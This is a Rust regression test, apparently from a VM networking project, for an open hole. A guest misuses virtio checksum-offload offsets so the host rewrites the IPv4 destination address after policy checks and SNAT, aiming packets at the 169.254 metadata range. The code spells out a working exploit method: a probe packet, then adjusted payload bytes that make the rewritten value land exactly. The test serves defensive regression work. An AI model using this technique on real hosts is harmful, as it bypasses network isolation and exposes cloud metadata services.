//! Attack (open hole, decision R101): a guest's `virtio_net_hdr` checksum offload request
//! (`VIRTIO_NET_HDR_F_NEEDS_CSUM` with `csum_start`/`csum_offset`) points into the IPv4 header,
//! so the uplink, computing the "checksum" where it was told when the packet leaves, writes a
//! 16-bit value of the guest's choosing over the destination (or source) address *after*
//! `from_cube` decided the policy and SNATed the packet. The kernel's `virtio_net_hdr_to_skb`
//! only requires `csum_start` ≥ 20 from the frame start; `from_cube` cannot see the offsets
//! (`__sk_buff` has no such fields). The value is the folded complement of the sum from
//! `csum_start` to the end, so one probe datagram of a flow tells an accomplice the sum and
//! the next one, with two payload bytes adjusted, lands exactly where the guest aims; the guest
//! also writes the IPv4 header checksum the final header needs (nobody checks it on the way).
//!
//! The uplink here has TX checksum offload off (the kernel's `skb_checksum_help` writes at
//! `csum_start + csum_offset`), as on a NIC whose driver falls back to it for offsets it does
//! not know (e.g. ixgbe, i40e) or a virtio-net NIC whose host honours the offsets.
//!
//! Ignored: it fails on this code (the hole is open); it is the regression test of the fix.

use std::{net::Ipv4Addr, time::Duration};

use cubenet_tests::{
    capture::{Capture, Captured},
    frames::{fix_ip_csum, udp},
    packet::{GATEWAY_MAC, GUEST_IP, GUEST_MAC},
    require_root,
    tap_node::TapNode,
    topology::{NODE_IP, WORLD_IF, WORLD_IP},
};
const SPORT: u16 = 44000;
const DPORT: u16 = 7777;
/// Where the guest aims the destination's upper half: 169.254 (link-local, the cloud
/// metadata range the always-denied list protects).
const AIM: u16 = 0xa9fe;

/// One's complement 16-bit addition (end-around carry).
fn add1(a: u16, b: u16) -> u16 {
    let s = u32::from(a) + u32::from(b);
    ((s & 0xffff) + (s >> 16)) as u16
}

/// The guest's frame of the flow `SPORT → WORLD_IP:DPORT`: `adjust` as the payload's first two
/// bytes, then `marker`, the UDP checksum field a constant; the checksum offload pointed at the destination address (frame offset
/// 30); the IPv4 header checksum written for the destination's upper half being `dst_hi`.
fn frame(adjust: u16, marker: &[u8], dst_hi: u16) -> Vec<u8> {
    let mut payload = adjust.to_be_bytes().to_vec();
    payload.extend_from_slice(marker);
    let mut f = udp(GUEST_MAC, GATEWAY_MAC, GUEST_IP, WORLD_IP, SPORT, DPORT, &payload);
    // A fixed UDP checksum field: a valid one would cancel `adjust` out of the sum.
    f[40..42].copy_from_slice(&[0x12, 0x34]);
    let real = [f[30], f[31]];
    f[30..32].copy_from_slice(&dst_hi.to_be_bytes());
    fix_ip_csum(&mut f);
    f[30..32].copy_from_slice(&real);
    // flags NEEDS_CSUM, no GSO, hdr_len 0, gso_size 0, csum_start 30, csum_offset 0.
    let mut b = vec![1u8, 0, 0, 0, 0, 0, 30, 0, 0, 0, 0, 0];
    b.extend(f);
    b
}

fn carrying<'a>(seen: &'a [Captured], marker: &[u8]) -> Vec<&'a Captured> {
    seen.iter().filter(|c| c.data.windows(marker.len()).any(|w| w == marker)).collect()
}

/// One's complement sum of `b` as 16-bit big-endian words (an odd last byte padded).
fn words(b: &[u8]) -> u16 {
    b.chunks(2).fold(0, |s, w| add1(s, u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)])))
}

fn ip_header_valid(d: &[u8]) -> bool {
    let mut s = 0u16;
    for w in d[14..34].chunks(2) {
        s = add1(s, u16::from_be_bytes([w[0], w[1]]));
    }
    s == 0xffff
}

#[test]
#[ignore = "open hole R101: the fix must read csum_start/csum_offset, which __sk_buff does not expose"]
fn guest_checksum_offload_never_rewrites_the_ip_header() {
    if !require_root("attack_csum_offload guest_checksum_offload_never_rewrites_the_ip_header") {
        return;
    }
    let n = TapNode::new();
    n.uplink_offloads(&["tx", "off"]);

    let cap = n.topo.world.run(|| Capture::open(cubenet_sys::ifindex(WORLD_IF).expect("wp0 ifindex")));
    let send = |marker: &[u8], f: Vec<u8>| -> Vec<Captured> {
        n.write(&f);
        let seen = cap.read_until(Duration::from_secs(5), |c| c.data.windows(marker.len()).any(|w| w == marker));
        carrying(&seen, marker).into_iter().cloned().collect()
    };
    let wrong = |got: &[Captured]| -> Vec<String> {
        got.iter()
            .filter(|c| c.data[26..30] != NODE_IP || c.data[30..34] != WORLD_IP)
            .map(|c| {
                let ip = |o: usize| Ipv4Addr::new(c.data[o], c.data[o + 1], c.data[o + 2], c.data[o + 3]);
                format!("{} -> {} (IPv4 header checksum valid: {})", ip(26), ip(30), ip_header_valid(&c.data))
            })
            .collect()
    };
    // The flow's first datagram: an ordinary one, allowed to WORLD_IP and SNATed.
    let real_hi = u16::from_be_bytes([WORLD_IP[0], WORLD_IP[1]]);
    let mut b = vec![0u8; 12];
    b.extend(udp(GUEST_MAC, GATEWAY_MAC, GUEST_IP, WORLD_IP, SPORT, DPORT, b"csum-open"));
    assert_eq!(send(b"csum-open", b).len(), 1, "the flow's first datagram never left");
    // Probe: what lands on the destination with no adjustment tells the sum.
    let probe = send(b"csum-probe", frame(0, b"csum-probe", real_hi));
    assert_eq!(probe.len(), 1, "the probe never left (or left twice)");
    let written = u16::from_be_bytes([probe[0].data[30], probe[0].data[31]]);
    // Aim: the written value is ~(S + adjust), S the sum from the destination on; the probe
    // gave S for its own marker, and the aimed datagram's S differs by its marker's words.
    let s_aimed = add1(add1(!written, !words(b"csum-probe")), words(b"csum-aimed"));
    let adjust = add1(!AIM, !s_aimed);
    let aimed = send(b"csum-aimed", frame(adjust, b"csum-aimed", AIM));
    let mut bad = wrong(&probe);
    bad.extend(wrong(&aimed));
    assert!(bad.is_empty(), "guest datagrams left with an IPv4 header the datapath never wrote: {bad:?}");
}
